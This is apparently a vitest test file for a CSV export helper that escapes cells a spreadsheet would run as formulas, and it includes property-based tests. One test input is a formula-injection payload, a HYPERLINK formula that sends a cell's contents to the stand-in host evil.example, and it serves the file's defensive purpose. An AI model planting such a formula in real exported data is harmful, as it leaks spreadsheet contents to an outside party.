import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { escapeSpreadsheetFormula } from "./escape-formula";
import { formatCsv } from "./format-csv";

const FORMULA_START = ["=", "+", "-", "@", "\t", "\r"];

describe("escapeSpreadsheetFormula", () => {
  it("prefixes a cell a spreadsheet would run as a formula with a single quote", () => {
    expect(escapeSpreadsheetFormula('=HYPERLINK("http://evil.example/?d="&A1,"x")')).toBe('\'=HYPERLINK("http://evil.example/?d="&A1,"x")');
    expect(escapeSpreadsheetFormula("+1+1")).toBe("'+1+1");
    expect(escapeSpreadsheetFormula("-2+3")).toBe("'-2+3");
    expect(escapeSpreadsheetFormula("@SUM(A1)")).toBe("'@SUM(A1)");
    expect(escapeSpreadsheetFormula("\t=1")).toBe("'\t=1");
    expect(escapeSpreadsheetFormula("\r=1")).toBe("'\r=1");
  });

  it("prefixes exactly the cells that start with = + - @ tab or CR, and leaves the rest as they are", () => {
    fc.assert(
      fc.property(fc.constantFrom(...FORMULA_START, "", "a", "1", " ", "'", "\n", "ー"), fc.string({ maxLength: 20 }), (first, tail) => {
        const s = first + tail;
        const isFormula = FORMULA_START.includes(s.charAt(0));
        expect(escapeSpreadsheetFormula(s)).toBe(isFormula ? `'${s}` : s);
      }),
    );
  });
});

describe("formatCsv", () => {
  it("escapes every string cell, read back by a CSV parser, and leaves numbers alone", () => {
    const csv = formatCsv(
      ["name", "count", "note"],
      [
        ["=1+2", -5, "web, tier"],
        ["@x", 7, '+"quoted"'],
      ],
    );
    expect(parse(csv, { columns: true })).toEqual([
      { name: "'=1+2", count: "-5", note: "web, tier" },
      { name: "'@x", count: "7", note: `'+"quoted"` },
    ]);
  });
});
